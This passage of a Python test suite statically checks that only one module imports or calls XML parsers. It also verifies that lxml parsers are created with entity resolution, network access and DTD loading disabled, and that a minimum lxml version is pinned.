                    found.append(f"line {node.lineno}: from {node.module} import {alias.name}")
                if full == "lxml.etree":
                    etree_names.add(alias.asname or alias.name)
                if node.module == "lxml.etree" and not allowed:
                    if alias.name == "*" or alias.name in LXML_PARSE_FUNCTIONS:
                        found.append(f"line {node.lineno}: from lxml.etree import {alias.name}")
                if node.module == "lxml.etree" and alias.name in NEVER:
                    found.append(f"line {node.lineno}: from lxml.etree import {alias.name}")
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            base = _dotted(node.value)
            on_etree = base in etree_names or base == "lxml.etree"
            if on_etree and node.attr in LXML_PARSE_FUNCTIONS and not allowed:
                found.append(f"line {node.lineno}: {base}.{node.attr}")
            if node.attr in NEVER and (on_etree or node.attr == "xinclude"):
                found.append(f"line {node.lineno}: {base}.{node.attr} (never allowed)")
        elif (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Name)
            and node.func.id == "getattr"
            and len(node.args) >= 2
            and _dotted(node.args[0]) in (etree_names | {"lxml.etree"})
            and isinstance(node.args[1], ast.Constant)
            and node.args[1].value in LXML_PARSE_FUNCTIONS | NEVER
            and not allowed
        ):
            found.append(f"line {node.lineno}: getattr(..., {node.args[1].value!r})")
    return found


def package_modules() -> list[Path]:
    return sorted(SRC.rglob("*.py"))


def test_static_checker_catches_parse_calls() -> None:
    """The checker below is not vacuous."""
    bad = [
        "import xml.etree.ElementTree as ET\n",
        "from xml.dom import minidom\n",
        "from xml import sax\n",
        "import xml.sax.saxutils\n",
        "from lxml import etree\netree.fromstring(b'<a/>')\n",
        "from lxml import etree as ET\nET.XML('<a/>')\n",
        "import lxml.etree\nlxml.etree.parse('x')\n",
        "from lxml.etree import iterparse\n",
        "from lxml import etree\np = etree.XMLParser()\n",
        "from lxml import etree\nctx = etree.XMLPullParser()\n",
        "from lxml import etree\nf = getattr(etree, 'iterparse')\n",
        "from lxml import objectify\n",
    ]
    for snippet in bad:
        assert xml_parse_violations(snippet), snippet
    never = "from lxml import etree\ntree = etree.ElementTree()\ntree.xinclude()\n"
    assert xml_parse_violations(never, allowed=True)
    writer = (
        "from lxml import etree\n"
        "root = etree.Element('{urn:x}feed', nsmap={None: 'urn:x'})\n"
        "etree.SubElement(root, 'entry').text = 'x'\n"
        "data = etree.tostring(root, xml_declaration=True, encoding='UTF-8')\n"
        "from ._xml import iter_elements\n"
    )
    assert xml_parse_violations(writer) == []


def test_only_parse_xml_module_parses_xml() -> None:
    """R33: no module but parse/_xml.py imports a stdlib XML parser or calls an lxml one."""
    assert XML_MODULE.is_file(), f"{XML_MODULE} is missing"
    modules = package_modules()
    assert len(modules) > 5
    problems = []
    for path in modules:
        allowed = path == XML_MODULE
        for problem in xml_parse_violations(path.read_text(encoding="utf-8"), allowed=allowed):
            problems.append(f"{path.relative_to(REPO)}: {problem}")
    assert problems == []


def _resolved_keywords(call: ast.Call, module: ast.Module) -> dict[str, Any] | None:
    """Keyword constants of ``call``, following ``**NAME`` to a dict literal/dict() in the
    module; None when a ``**`` argument cannot be resolved statically."""
    assignments: dict[str, ast.expr] = {}
    for node in ast.walk(module):
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    assignments[target.id] = node.value
        elif isinstance(node, ast.AnnAssign) and isinstance(node.target, ast.Name):
            if node.value is not None:
                assignments[node.target.id] = node.value

    def from_mapping(expr: ast.expr) -> dict[str, Any] | None:
        if isinstance(expr, ast.Dict):
            out: dict[str, Any] = {}
            for key, value in zip(expr.keys, expr.values, strict=True):
                if key is None:
                    inner = from_mapping(value)
                    if inner is None:
                        return None
                    out.update(inner)
                elif isinstance(key, ast.Constant) and isinstance(value, ast.Constant):
                    out[str(key.value)] = value.value
                elif isinstance(key, ast.Constant):
                    out[str(key.value)] = ast.unparse(value)
            return out
        if isinstance(expr, ast.Call) and _dotted(expr.func) in {"dict", "MappingProxyType"}:
            out = {}
            for arg in expr.args:
                inner = from_mapping(arg)
                if inner is None:
                    return None
                out.update(inner)
            for kw in expr.keywords:
                if kw.arg is None:
                    inner = from_mapping(kw.value)
                    if inner is None:
                        return None
                    out.update(inner)
                else:
                    out[kw.arg] = kw.value.value if isinstance(kw.value, ast.Constant) else None
            return out
        if isinstance(expr, ast.Name) and expr.id in assignments:
            return from_mapping(assignments[expr.id])
        return None

    result: dict[str, Any] = {}
    for kw in call.keywords:
        if kw.arg is None:
            inner = from_mapping(kw.value)
            if inner is None:
                return None
            result.update(inner)
        else:
            result[kw.arg] = kw.value.value if isinstance(kw.value, ast.Constant) else None
    return result


def test_lxml_parsers_are_hardened_explicitly() -> None:
    """R35: every iterparse/XMLParser/XMLPullParser call in parse/_xml.py passes
    resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False."""
    module = ast.parse(XML_MODULE.read_text(encoding="utf-8"))
    calls = [
        node
        for node in ast.walk(module)
        if isinstance(node, ast.Call)
        and (_dotted(node.func) or "").rsplit(".", 1)[-1] in HARDENED_CALLS
    ]
    assert calls, "parse/_xml.py makes no iterparse/XMLParser call"
    for call in calls:
        where = f"parse/_xml.py line {call.lineno}: {ast.unparse(call.func)}(...)"
        keywords = _resolved_keywords(call, module)
        assert keywords is not None, f"{where}: cannot resolve its ** keyword arguments"
        for flag, expected in REQUIRED_FLAGS.items():
            assert flag in keywords, f"{where}: {flag} is not passed explicitly"
            assert keywords[flag] is expected, f"{where}: {flag}={keywords[flag]!r}"


def test_lxml_floor() -> None:
    """R35: the package requires lxml>=6.1 (CVE-2026-41066) and that is what is installed."""
    pyproject = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
    reqs = [Requirement(r) for r in pyproject["project"]["dependencies"]]
    lxml_req = next(r for r in reqs if r.name == "lxml")
    assert not lxml_req.specifier.contains("6.0.4", prereleases=True)
    assert lxml_req.specifier.contains("6.1.0")
    assert etree.LXML_VERSION[:2] >= (6, 1)
